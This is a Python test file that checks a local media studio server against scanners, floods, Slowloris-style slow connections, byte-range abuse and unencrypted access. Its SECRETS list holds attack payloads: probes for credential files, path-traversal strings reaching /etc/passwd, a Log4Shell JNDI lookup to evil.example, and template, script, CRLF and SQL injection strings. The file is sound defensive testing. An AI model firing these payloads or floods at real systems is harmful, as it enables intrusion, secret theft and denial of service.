"""A studio under attack: scanners, floods, slow talkers, greedy ranges. It goes on working, and its memory does not grow."""

from __future__ import annotations

import os
import shutil
import signal
import socket
import ssl
import subprocess
import time
from collections.abc import Iterator
from contextlib import ExitStack, suppress
from dataclasses import replace
from itertools import product
from pathlib import Path

import pytest

from tests.cli.command import together
from tests.studio.asking import Client, Running, listening, started

pytestmark = [pytest.mark.long, pytest.mark.ffmpeg]

STATE = "/api/episodes/s01e01"


@pytest.fixture(scope="module")
def besieged(built: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Running]:
    folder = tmp_path_factory.mktemp("siege")
    shutil.copytree(built.parents[1], folder / "show", symlinks=True)
    with started(folder / "show", home=folder / "home") as found:
        assert found.client.get(STATE).status == 200
        yield found


@pytest.fixture
def client(besieged: Running) -> Client:
    return besieged.client


def resident(running: Running) -> int:
    """Return the megabytes that the studio's own process holds."""
    status = Path(f"/proc/{running.process.pid}/status").read_text()
    return int(next(line.split()[1] for line in status.splitlines() if line.startswith("VmRSS"))) // 1024


def works(client: Client) -> None:
    assert client.get("/").status == 200
    assert client.get(STATE).json["title"] == "Small"


PLACES = ("", "/api", "/static", "/blob", "/view", "/tile", "/api/episodes")
SECRETS = (
    ".env", ".git/config", ".aws/credentials", ".ssh/id_rsa", "id_rsa", "config.php", "wp-login.php", "wp-config.php.bak",
    "phpinfo.php", "server-status", "actuator/heapdump", "actuator/env", "debug/vars", "console", "manager/html", "solr/admin",
    "jenkins/script", "_ignition/execute-solution", "vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "cgi-bin/.%2e/bin/sh",
    "boaform/admin/formLogin", "HNAP1", "owa/auth.owa", "autodiscover.xml", "telescope/requests", "backup.sql", "dump.tar.gz",
    "store.db", "docker-compose.yml", "kubeconfig", "%2e%2e/%2e%2e/%2e%2e/etc/passwd", "..%252f..%252fetc/passwd",
    "....//....//etc/passwd", "%c0%ae%c0%ae/etc/passwd", "..%5c..%5cwindows/win.ini", "etc/passwd%00.png", "proc/self/environ",
    "{{7*7}}", "${jndi:ldap://evil.example/a}", "<script>alert(1)</script>", "%0d%0aset-cookie:%20a=b", "x' or '1'='1",
)  # fmt: skip
SCANNED = [f"{place}/{secret}" for place, secret in product(PLACES, SECRETS)]
assert len(SCANNED) >= 290
METHODS = ("GET", "HEAD", "POST", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "CONNECT", "PROPFIND", "MKCOL", "DEBUG", "GeT")


def status(client: Client, method: str, path: str, cookie: str) -> tuple[int, bytes]:
    """Ask as no library would, and return the status and all that comes; 0 where it is hung up on."""
    with socket.create_connection((client.host, client.port), 20) as one:
        lines = (
            f"{method} {path} HTTP/1.1",
            f"host: {client.host}:{client.port}",
            f"cookie: {cookie}",
            "connection: close",
            "",
            "",
        )
        one.sendall("\r\n".join(lines).encode("latin-1"))
        found = b""
        with suppress(ConnectionResetError):
            while part := one.recv(65536):
                found += part
    return (int(found.split()[1]) if found else 0), found


def test_what_a_scanner_asks_for_is_refused_with_and_without_the_key(besieged: Running) -> None:
    client = besieged.client
    asked = [(method, SCANNED[(number * 7) % len(SCANNED)]) for number, method in enumerate(METHODS * 8)]
    asked += [("GET", path) for path in SCANNED]
    for (method, path), cookie in product(asked, ("", client.cookie)):
        found, content = status(client, method, path.replace(" ", "%20"), cookie)
        assert found == 0 or 400 <= found < 500, (method, path, found)
        assert b"Traceback" not in content
        assert b"root:" not in content
        assert b"set-cookie: a=b" not in content.lower()
    works(client)


def test_a_thousand_that_talk_slowly_keep_nobody_out(besieged: Running) -> None:
    """A letter each now and then of a head that never ends (Slowloris), and bodies that are promised and do not come."""
    client = besieged.client
    begin = f"GET / HTTP/1.1\r\nhost: {client.host}:{client.port}\r\nx: ".encode()
    body = f"POST /api/file/save HTTP/1.1\r\nhost: {client.host}:{client.port}\r\ncontent-length: 4000000\r\n\r\n".encode()
    with ExitStack() as held:
        slow: list[socket.socket] = []
        for number in range(1000):
            one = held.enter_context(socket.create_connection((client.host, client.port), 20))
            with suppress(OSError):
                one.sendall(body if number % 4 == 0 else begin)
            slow.append(one)
            if number % 250 == 0:
                works(client)
        for _ in range(3):
            for one in slow:
                with suppress(OSError):
                    one.sendall(b"a")
            works(client)


def test_a_flood_of_streams_and_ranges_leaves_the_memory_as_it_was(besieged: Running) -> None:
    client = besieged.client
    blob = next(one["blob"] for one in client.get(STATE).json["spans"] if one["blob"])
    whole = client.get(f"/blob/{blob}.m4s").body
    host = f"host: {client.host}:{client.port}\r\ncookie: {client.cookie}\r\n\r\n"
    stream = f"GET /api/events?episode=s01e01 HTTP/1.1\r\n{host}"
    many = ",".join(f"{number}-{number + 9}" for number in range(700))
    ranges = ("bytes=0-", f"bytes={many}", "bytes=-1", "bytes=9-0", "lines=1-2")

    def round_() -> None:
        statuses = []
        with ExitStack() as held:
            for _ in range(60):
                one = held.enter_context(socket.create_connection((client.host, client.port), 20))
                one.sendall(stream.encode())
                statuses.append(int(one.recv(64).split()[1]))  # and never reads on
            assert set(statuses) == {200, 429}
            for number in range(200):
                answer = client.get(f"/blob/{blob}.m4s", range=ranges[number % len(ranges)])
                assert (answer.status, len(answer.body)) in ((200, len(whole)), (416, len(answer.body)))
            works(client)
        end = time.monotonic() + 20
        while status(client, "HEAD", "/api/show", client.cookie)[0] != 200:
            assert time.monotonic() < end

    for _ in range(2):  # what is kept for good is kept by now
        round_()
    before = resident(besieged)
    for _ in range(6):
        round_()
    assert resident(besieged) - before < 24, "megabytes that six more floods left behind"


def test_it_ends_at_once_though_fifty_pages_hang_on_it(built: Path, tmp_path: Path) -> None:
    shutil.copytree(built.parents[1], tmp_path / "show", symlinks=True)
    with started(tmp_path / "show", home=tmp_path / "home") as running, ExitStack() as held:
        client = running.client
        for _ in range(24):
            held.enter_context(listening(client, "/api/events?episode=s01e01"))
        for number in range(26):
            one = held.enter_context(socket.create_connection((client.host, client.port), 20))
            one.sendall(b"GET / HT" if number % 2 else b"")
        before = time.monotonic()
        running.process.send_signal(signal.SIGINT)
        running.process.wait(20)
        took = time.monotonic() - before
        assert running.process.returncode == 0, running.process.stderr.read() if running.process.stderr else ""
        # A second on a machine of its own; this one is shared with other tests.
        assert took < 1 + 0.5 * os.getloadavg()[0], took


needs_openssl = pytest.mark.skipif(shutil.which("openssl") is None, reason="no openssl to make a certificate with")


@needs_openssl
def test_others_reach_it_by_tls_alone(built: Path, tmp_path: Path) -> None:
    shutil.copytree(built.parents[1], tmp_path / "show", symlinks=True)
    chain, key = tmp_path / "chain.pem", tmp_path / "key.pem"
    made = "req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 2 -subj /CN=studio"
    files = ("-addext", "subjectAltName=IP:127.0.0.1", "-keyout", str(key), "-out", str(chain))
    subprocess.run(["openssl", *made.split(), *files], check=True, capture_output=True)
    context = ssl.create_default_context(cafile=str(chain))
    options = ("--host", "127.0.0.1", "--tls-cert", str(chain), "--tls-key", str(key))
    with started(tmp_path / "show", *options, home=tmp_path / "home", context=context) as running:
        client = running.client
        assert running.address.startswith("https://127.0.0.1:")
        opened = client.get(running.address.partition(str(client.port))[2])
        assert "; secure" in opened.headers["set-cookie"].lower()
        works(client)
        found, content = status(client, "GET", "/api/show", client.cookie)
        assert (found, content) == (0, b""), "nothing is said in plain words"
        strangers = ssl.create_default_context()
        with pytest.raises(ssl.SSLCertVerificationError):
            replace(client, context=strangers).get("/")
        works(client)


def test_others_do_not_reach_it_without_tls_unless_somebody_says_so(built: Path) -> None:
    told = together("studio", "--no-open", "--host", "192.0.2.1", folder=built.parents[1])
    assert told.returncode == 2
    assert "not encrypted" in told.stderr
    assert "--tls-cert" in told.stderr


def test_what_a_studio_shows_is_not_cleared_away(besieged: Running) -> None:
    told = together("store", "gc", "--unfinished", folder=Path(besieged.process.args[4]))  # type: ignore[index, arg-type]
    assert told.returncode != 0
    assert "nothing was removed" in told.stderr
    assert "end `together studio` with Ctrl-C" in told.stderr
    works(besieged.client)
